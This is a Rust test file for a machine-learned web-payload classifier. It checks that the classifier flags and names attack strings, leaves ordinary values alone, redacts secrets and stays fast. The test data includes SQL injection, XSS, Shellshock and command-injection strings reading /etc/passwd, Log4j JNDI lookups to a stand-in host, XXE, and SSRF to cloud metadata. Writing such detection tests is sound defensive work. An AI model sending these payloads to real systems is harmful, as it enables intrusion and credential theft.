//! The classifier as a whole, with the model that is built in.

use super::*;

fn model() -> PayloadModel {
    PayloadModel::embedded().expect("the artifact belongs to this build; run `cargo xtask train`")
}

fn score(place: Place, form: Form, bytes: &[u8]) -> PayloadScore {
    model().score(&[Value { place, form, bytes }], &mut Scratch::default())
}

/// The classics of each class, one way each, in the places where they are met.
#[test]
fn attacks_are_found_and_named() {
    use Class as C;
    for (class, place, form, text) in [
        (C::Sqli, Place::Query, Form::Pairs, "id=1%27%20OR%20%271%27%3D%271"),
        (C::Sqli, Place::Query, Form::Pairs, "id=-1+union+all+select+1,2,3--+-"),
        (C::Sqli, Place::Body, Form::Json, r#"{"user": "admin' or 1=1 -- "}"#),
        (C::Sqli, Place::Header, Form::Text, "x'; waitfor delay '0:0:5'--"),
        (C::Xss, Place::Query, Form::Pairs, "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        (C::Xss, Place::Body, Form::Json, r#"{"a": ["\u003cimg src=x onerror=alert(1)\u003e"]}"#),
        (C::Xss, Place::Query, Form::Pairs, "u=java%09script:alert(document.cookie)"),
        (C::Traversal, Place::Path, Form::Text, "/static/..%252f..%252f..%252fetc/passwd"),
        (C::Traversal, Place::Query, Form::Pairs, "f=Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA=="),
        (C::Cmdi, Place::Query, Form::Pairs, "host=127.0.0.1;cat%20/etc/passwd"),
        (C::Cmdi, Place::Header, Form::Text, "() { :;}; /bin/bash -c 'id'"),
        (C::Log4j, Place::Header, Form::Text, "${jndi:ldap://x.example/a}"),
        (C::Log4j, Place::Header, Form::Text, "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}"),
        (C::Ssti, Place::Query, Form::Pairs, "n={{''.__class__.__mro__[1].__subclasses__()}}"),
        (
            C::Xxe,
            Place::Body,
            Form::Text,
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        ),
        (C::Ssrf, Place::Query, Form::Pairs, "url=http://169.254.169.254/latest/meta-data/"),
        (C::Nosql, Place::Body, Form::Json, r#"{"user": {"$ne": null}, "pass": {"$ne": null}}"#),
        (C::Ldap, Place::Query, Form::Pairs, "u=*)(uid=*))(|(uid=*"),
        (
            C::Deserialization,
            Place::Cookie,
            Form::Cookies,
            "s=gASVzgAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIyyKGV4",
        ),
        (C::Crlf, Place::Query, Form::Pairs, "to=a%0d%0aSet-Cookie:%20a=b"),
    ] {
        let score = score(place, form, text.as_bytes());
        assert!(score.is_attack, "{text}: {score:?}");
        assert_eq!(score.class, Some(class), "{text}: {score:?}");
        assert_eq!(score.value, Some(0));
        assert!(score.reasons[0].is_some());
    }
}

#[test]
fn legitimate_values_are_let_be() {
    for (place, form, text) in [
        (Place::Path, Form::Text, "/api/v1/users/42/orders"),
        (Place::Path, Form::Text, "/"),
        (Place::Query, Form::Pairs, "q=select+a+table+from+the+union+store&page=2"),
        (Place::Query, Form::Pairs, "name=Conan+O%27Brien&sort=-created"),
        (Place::Query, Form::Pairs, "next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De"),
        (Place::Header, Form::Text, "*/*"),
        (
            Place::Header,
            Form::Text,
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        (
            Place::Header,
            Form::Text,
            "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
        ),
        (Place::Cookie, Form::Cookies, "sid=s%3AqX9vT2mL0aKc4wZ7; theme=dark; _ga=GA1.2.149.1718"),
        (Place::Body, Form::Json, r#"{"title": "Don't panic", "n": 42, "tags": ["a", "b & c"]}"#),
        (Place::Body, Form::Text, "<p>Hello <b>world</b>, it's 5 o'clock.</p>"),
        (Place::Claim, Form::Text, "7f1a2c3e-89ab-4cde-8f01-23456789abcd"),
        (Place::Body, Form::Text, "if (a < b) { return f(a, b); }"),
        (Place::Claim, Form::Text, "a loss of $(5)"),
    ] {
        let score = score(place, form, text.as_bytes());
        assert!(!score.is_attack, "{text}: {score:?}");
    }
}

#[test]
fn the_excerpt_shows_what_was_decoded_and_debug_does_not() {
    let long = format!("q={}%2527%2520or%25201%253d1--", "a".repeat(300));
    let score = score(Place::Query, Form::Pairs, long.as_bytes());
    let excerpt = score.excerpt.to_string();
    assert!(excerpt.contains("' or 1=1--"), "{excerpt}");
    assert!(!format!("{score:?}").contains("1=1"));
}

#[test]
fn what_stands_under_a_secrets_name_is_not_shown() {
    for (form, text) in [
        (Form::Pairs, "Password=' or 1=1--"),
        (Form::Pairs, "access_token=' or 1=1--"),
        (Form::Json, r#"{"user_pwd": "' or 1=1--"}"#),
        (Form::Cookies, "PHPSESSID=' or 1=1--"),
    ] {
        let score = score(Place::Body, form, text.as_bytes());
        assert!(score.is_attack, "{text}");
        assert_eq!(score.excerpt.bytes(), b"", "{text}");
    }
}

/// A scratch that has seen everything says the same as a new one, whatever came before.
#[test]
fn what_is_remembered_changes_no_score() {
    let values: [&[u8]; 6] = [
        b"Mozilla/5.0 (X11; Linux x86_64)",
        b"text/html, */*;q=0.8",
        b"a+b' or 1=1--",
        b"en-GB,en;q=0.9",
        b"%27 or 1=1--",
        b"<b>x</b>",
    ];
    let (model, mut used) = (model(), Scratch::default());
    for _ in 0..3 {
        for bytes in values {
            for place in [Place::Header, Place::Path, Place::Body, Place::Query] {
                for form in [Form::Text, Form::Pairs, Form::Cookies] {
                    let value = [Value { place, form, bytes }];
                    let fresh = model.score(&value, &mut Scratch::default());
                    let again = model.score(&value, &mut used);
                    assert_eq!(fresh.probability, again.probability);
                    assert_eq!(fresh.value, again.value);
                }
            }
        }
    }
}

#[test]
fn the_worst_value_counts_wherever_it_stands() {
    let bad =
        Value { place: Place::Query, form: Form::Pairs, bytes: b"a=1' union select null,null-- -" };
    let good = Value { place: Place::Header, form: Form::Text, bytes: b"en-GB,en;q=0.9" };
    let (model, mut scratch) = (model(), Scratch::default());
    let alone = model.score(&[bad], &mut scratch).probability;
    for at in 0..4 {
        let mut values = [good; 4];
        values[at] = bad;
        let score = model.score(&values, &mut scratch);
        assert_eq!((score.value, score.probability), (Some(at), alone));
    }
}

/// An attack behind more text than one piece holds, at every place around the seam.
#[test]
fn pieces_overlap() {
    let attack = "' union select password from users-- ";
    let model = model();
    let mut scratch = Scratch::default();
    for lead in (lex::MAX_WINDOW - 300..lex::MAX_WINDOW + 60).step_by(7) {
        let text = format!(
            "{}{attack}{}",
            "lorem ipsum ".repeat(400).get(..lead).unwrap(),
            " dolor".repeat(500)
        );
        let value = Value { place: Place::Body, form: Form::Text, bytes: text.as_bytes() };
        assert!(model.score(&[value], &mut scratch).is_attack, "{lead}");
    }
}

#[test]
fn what_is_not_scored_is_counted() {
    let (model, mut scratch) = (model(), Scratch::default());
    let huge = vec![b'a'; MAX_VALUE + 1000];
    let value = |bytes| Value { place: Place::Body, form: Form::Text, bytes };
    assert_eq!(model.score(&[value(&huge)], &mut scratch).unscored, 1000);
    let many = "a=b&".repeat(MAX_PARTS);
    let pairs = Value { place: Place::Query, form: Form::Pairs, bytes: many.as_bytes() };
    assert!(model.score(&[pairs], &mut scratch).unscored > 0);
    assert_eq!(model.score(&[value(b"abc")], &mut scratch).unscored, 0);
}

/// Every prefix of every hostile text, and each with every byte value behind: no panic, and the
/// same score again from a used scratch.
#[test]
fn hostile_bytes() {
    let texts = [
        &b"%00' or/**/1=1 -- ${${::-j}ndi:x://[::1]\\..\\..%c0%af<svg/onload=`a`>;$(id)|{{7*7}}"[..],
        b"<!DOCTYPE a [<!ENTITY % b SYSTEM \"c\">]><!--#exec cmd=\"d\"--><?xml?><?php $_GET[1];",
        b"))))((((]]]]}}}}{{{{''''\"\"\"\"``````-----/////\\\\\\\\......",
        b"{\"a\":{\"$ne\":\"\\u0027 or 1=1\",\"b\":[\"\\\"",
        b"O:8:\"a\":1:{}\xac\xed\x00\x05\xff\xfe\xc0\xe0\x80\xf0\x80\x80",
    ];
    let (model, mut scratch) = (model(), Scratch::default());
    for text in texts {
        for end in 0..=text.len() {
            for byte in (0..=255).step_by(if end % 8 == 0 { 1 } else { 51 }) {
                let mut bytes = text[..end].to_vec();
                bytes.push(byte);
                for form in [Form::Text, Form::Pairs, Form::Cookies, Form::Json] {
                    let values = [Value { place: Place::Body, form, bytes: &bytes }];
                    let first = model.score(&values, &mut scratch).probability;
                    assert!((0.0..=1.0).contains(&first));
                    assert_eq!(first, model.score(&values, &mut scratch).probability);
                }
            }
        }
    }
}

/// Values of nothing but one mark take a time in proportion to their length.
#[test]
fn work_stays_linear() {
    let (model, mut scratch) = (model(), Scratch::default());
    for unit in [
        "(", ")", "'", "<a ", "${", "{{", "../", "select ", "union ", "/*", "%25", "&#", ";",
        "\\u", "<!",
    ] {
        let text = unit.repeat(MAX_VALUE / unit.len());
        let start = std::time::Instant::now();
        model.score(
            &[Value { place: Place::Body, form: Form::Text, bytes: text.as_bytes() }],
            &mut scratch,
        );
        // A piece for a piece it is a millisecond; the square of it would be a minute.
        assert!(start.elapsed().as_secs() < 10, "{unit}");
    }
}

/// The buffers stop growing: the second pass over the same requests allocates nothing new.
#[test]
fn scratch_settles() {
    let (model, mut scratch) = (model(), Scratch::default());
    let long = "a' or 1=1 -- %41 ".repeat(2000);
    let values = [
        Value { place: Place::Body, form: Form::Text, bytes: long.as_bytes() },
        Value { place: Place::Body, form: Form::Json, bytes: br#"{"a": "b\u0041"}"# },
    ];
    model.score(&values, &mut scratch);
    let before = scratch.capacity();
    for _ in 0..3 {
        model.score(&values, &mut scratch);
    }
    assert_eq!(scratch.capacity(), before);
}

#[test]
fn features_are_named_once_and_their_groups_are_in_order() {
    let mut ids: Vec<&str> = schema::FEATURES.iter().map(|f| f.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), schema::NAMED);
    let order: Vec<usize> = (0..schema::WIDTH)
        .map(|at| Group::ALL.iter().position(|g| *g == schema::group_of(at)).unwrap())
        .collect();
    assert!(order.is_sorted());
}

/// A path that was found harmless speaks for the same path with other numbers. Of every word that
/// any detector knows, in front of and behind numbers that mean something to some of them.
#[test]
fn a_harmless_path_is_harmless_with_any_number() {
    let numbers = [
        ["1", "0", "7"].as_slice(),
        &["127", "017", "169", "000"],
        &["21307064", "00000177", "99999999", "12345678"],
    ];
    let model = model();
    let words: Vec<&str> = keywords::GROUPS
        .iter()
        .flat_map(|(_, _, group)| group.split_ascii_whitespace())
        .chain(["items", "a-b", "v1", "x.y", "0x1f", "1e3", "or", "like", "-"])
        .collect();
    let mut remembered = 0;
    for (at, word) in words.iter().enumerate() {
        let next = words[(at * 7 + 3) % words.len()];
        for path in [format!("/#/{word}/#"), format!("/{word}/#/{next}/#/1"), format!("//#/{word}")]
        {
            let of_length = numbers[at % numbers.len()];
            // Each once with what the first one left behind, and once without.
            let mut kept = Scratch::default();
            for number in of_length {
                let path = path.replace('#', number);
                let value = Value { place: Place::Path, form: Form::Text, bytes: path.as_bytes() };
                let known = format!("{:?}", model.score(&[value], &mut kept));
                let anew = format!("{:?}", model.score(&[value], &mut Scratch::default()));
                assert_eq!(known, anew, "{path}");
                remembered += usize::from(number != &of_length[0] && known.contains("value: None"));
            }
        }
    }
    assert!(remembered > 1000, "{remembered}");
}
